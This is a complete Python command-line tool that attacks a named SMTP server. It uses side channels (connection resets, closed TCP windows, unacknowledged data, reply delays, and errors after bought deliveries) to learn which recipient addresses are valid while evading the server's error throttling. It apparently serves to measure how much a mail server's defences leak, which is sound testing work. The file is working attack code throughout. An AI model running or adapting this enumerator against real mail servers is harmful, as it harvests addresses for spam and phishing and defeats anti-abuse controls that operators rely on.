#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Attack a mail server by what tells an answer without showing it.

	oracles.py [option...] ATTACK HOST

First the source makes --errors errors, then it guesses for --seconds, one
recipient in --valid-every valid.  The attacks:

	reset		blind: EHLO, MAIL, RCPT, DATA, QUIT and 60 KB of junk; where the
			guess was wrong the server resets the connection
	closed-window	the same, and no answer is ever sent: the client reads
			nothing, and its window is closed
	acked		blind: the same without QUIT, and 1.8 MB of junk; how much the
			server takes tells whether it reads a message
	bought		after --deliveries messages, and 16 connections that hold an
			error each: a message for each guess
	hang-up		after --deliveries messages: no answer in 0.25 s is 'wrong'

Prints one JSON object.  What was learnt: invalid guesses times

	share of the invalid that showed the sign - share of the valid that did

A valid guess is one that a good sender could make: it is charged nothing, and not
counted.  "learnt_per_interval" counts less what --errors left of --burst: so many
are learnt at once.
"""

import argparse
import array
import fcntl
import json
import socket
import sys
import termios
import time

DOMAIN = "example.com"
JUNK = b"x\r\n" * 20000
MUCH = b"x" * 70 + b"\r\n"
PATIENCE_S = 0.4


class Attacker:
    """One source, and what it has seen."""

    def __init__(self, args):
        self.args = args
        self.asked = {True: 0, False: 0}
        self.signs = {True: 0, False: 0}
        self.number = 0
        self.kept = []
        self.deadline = 0.0

    def left(self, most_s):
        left_s = self.deadline - time.monotonic()
        return max(0.001, min(most_s, left_s)) if self.deadline else most_s

    def guess(self):
        self.number += 1
        if self.number % self.args.valid_every == 0:
            return "user1", True
        return f"nobody{self.number}", False

    def connect(self, window=0):
        family = socket.AF_INET6 if ":" in self.args.host else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        if window:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(self.left(10))
        sock.connect((self.args.host, self.args.port))
        return sock

    @staticmethod
    def reply(sock):
        """The code of the next reply; "" where the connection ends."""
        data = b""
        while not data.endswith(b"\n") or data.splitlines()[-1][3:4] == b"-":
            got = sock.recv(1)
            if not got:
                return ""
            data += got
        return data.splitlines()[-1][:3].decode()

    def command(self, sock, line):
        sock.sendall(line.encode() + b"\r\n")
        return self.reply(sock)

    def opened(self, patience_s):
        """A connection behind EHLO and MAIL."""
        sock = self.connect()
        sock.settimeout(self.left(patience_s))
        self.reply(sock)
        self.command(sock, "EHLO client.example.net")
        self.command(sock, "MAIL FROM:<sender@example.net>")
        return sock

    def note(self, valid, sign):
        self.asked[valid] += 1
        self.signs[valid] += sign

    # --- before

    def err(self, times):
        """All are open before the first error makes others wait."""
        self.kept = [self.opened(60) for _ in range(times)]
        for i, sock in enumerate(self.kept):
            sock.settimeout(0.2)
            try:
                self.command(sock, f"RCPT TO:<first{i}@{DOMAIN}>")
            except socket.timeout:
                pass

    def deliver(self, times):
        sock = self.opened(60)
        for i in range(times):
            if i:
                self.command(sock, "MAIL FROM:<sender@example.net>")
            self.message(sock)
        sock.close()

    def message(self, sock):
        if self.command(sock, f"RCPT TO:<user1@{DOMAIN}>") != "250":
            return False
        self.command(sock, "DATA")
        return self.command(sock, "Subject: x\r\n\r\nx\r\n.") == "250"

    # --- attacks: each makes one guess

    def blind(self, junk, window=0, before=b"", quits=b"QUIT\r\n"):
        name, valid = self.guess()
        sock = self.connect(window)
        sock.sendall(before + b"EHLO client.example.net\r\n")
        time.sleep(self.left(0.06))
        sock.sendall(b"MAIL FROM:<sender@example.net>\r\n"
                     b"RCPT TO:<%s@%s>\r\nDATA\r\n" %
                     (name.encode(), DOMAIN.encode()) + quits)
        sock.settimeout(self.left(PATIENCE_S))
        return sock, valid, junk

    def sees_reset(self, sock, junk):
        """The sign: the connection is reset within the patience."""
        until = time.monotonic() + self.left(PATIENCE_S)
        try:
            sock.sendall(junk)
            while time.monotonic() < until:
                sock.send(b"x")
                time.sleep(0.02)
        except socket.timeout:
            return False
        except OSError:
            return True
        return False

    def reset(self):
        sock, valid, junk = self.blind(JUNK)
        self.note(valid, self.sees_reset(sock, junk))
        sock.close()

    def closed_window(self):
        sock, valid, junk = self.blind(JUNK, 1, b"EHLO x\r\n" * 40)
        self.note(valid, self.sees_reset(sock, junk))
        sock.close()

    def acked(self):
        """The sign: the server takes less than a message's length."""
        sock, valid, _ = self.blind(b"", quits=b"")
        sock.setblocking(False)
        left = MUCH * 25000
        until = time.monotonic() + self.left(1.5)
        try:
            while left and time.monotonic() < until:
                try:
                    left = left[sock.send(left[:65536]):]
                except BlockingIOError:
                    time.sleep(0.01)
            time.sleep(self.left(0.2))
            queued = array.array("i", [0])
            fcntl.ioctl(sock, termios.TIOCOUTQ, queued)
            self.note(valid, bool(left) or queued[0] > 0)
        except OSError:
            self.note(valid, True)
        sock.close()

    def hang_up(self):
        """The sign: nothing comes in 0.25 s."""
        sock = self.opened(0.25)
        name, valid = self.guess()
        sock.settimeout(self.left(0.25))
        try:
            self.command(sock, f"RCPT TO:<{name}@{DOMAIN}>")
            self.note(valid, False)
        except socket.timeout:
            self.note(valid, True)
        finally:
            sock.close()

    def bought(self):
        """The sign: an error comes at once, for a message."""
        sock = self.opened(0.25)
        try:
            if not self.message(sock):
                return
            self.command(sock, "MAIL FROM:<sender@example.net>")
            name, valid = self.guess()
            sock.settimeout(self.left(0.25))
            try:
                code = self.command(sock, f"RCPT TO:<{name}@{DOMAIN}>")
                self.note(valid, code.startswith("5"))
            except socket.timeout:
                self.note(valid, True)
        finally:
            sock.close()

    # --- all of it

    def prepare(self):
        if self.args.attack in ("bought", "hang-up"):
            self.deliver(self.args.deliveries)
        self.err(16 if self.args.attack == "bought" else self.args.errors)

    def run(self):
        one = {"reset": self.reset, "closed-window": self.closed_window,
               "acked": self.acked, "bought": self.bought,
               "hang-up": self.hang_up}[self.args.attack]
        started = time.monotonic()
        self.deadline = started + self.args.seconds
        while time.monotonic() < self.deadline:
            try:
                one()
            except OSError:
                time.sleep(self.left(0.06))
        return time.monotonic() - started


def result(args, attacker, seconds):
    asked, signs = attacker.asked, attacker.signs
    tells = 0.0
    if asked[True] and asked[False]:
        tells = abs(signs[False] / asked[False] - signs[True] / asked[True])
    elif asked[False] and args.attack in ("hang-up", "bought"):
        tells = signs[False] / asked[False]
    learnt = tells * asked[False]
    at_once = max(0, args.burst - args.errors)
    intervals = seconds / args.interval
    return {
        "attack": args.attack, "seconds": round(seconds, 2),
        "asked": asked[True] + asked[False],
        "sign_of_valid": signs[True], "asked_valid": asked[True],
        "sign_of_invalid": signs[False], "tells": round(tells, 3),
        "learnt": round(learnt, 2),
        "learnt_per_interval": round(max(0, learnt - at_once) / intervals, 2),
    }


def main():
    parser = argparse.ArgumentParser(
        description=__doc__.strip(),
        formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--interval", type=float, default=2, metavar="S")
    parser.add_argument("--valid-every", type=int, default=2, metavar="N")
    parser.add_argument("--errors", type=int, default=0, metavar="N")
    parser.add_argument("--deliveries", type=int, default=400, metavar="N")
    parser.add_argument("--burst", type=int, default=4, metavar="N")
    parser.add_argument("--port", type=int, default=25)
    parser.add_argument("attack", choices=("reset", "closed-window", "acked",
                                           "bought", "hang-up"))
    parser.add_argument("host")
    args = parser.parse_args()
    attacker = Attacker(args)
    attacker.prepare()
    print(json.dumps(result(args, attacker, attacker.run())))
    return 0


if __name__ == "__main__":
    sys.exit(main())
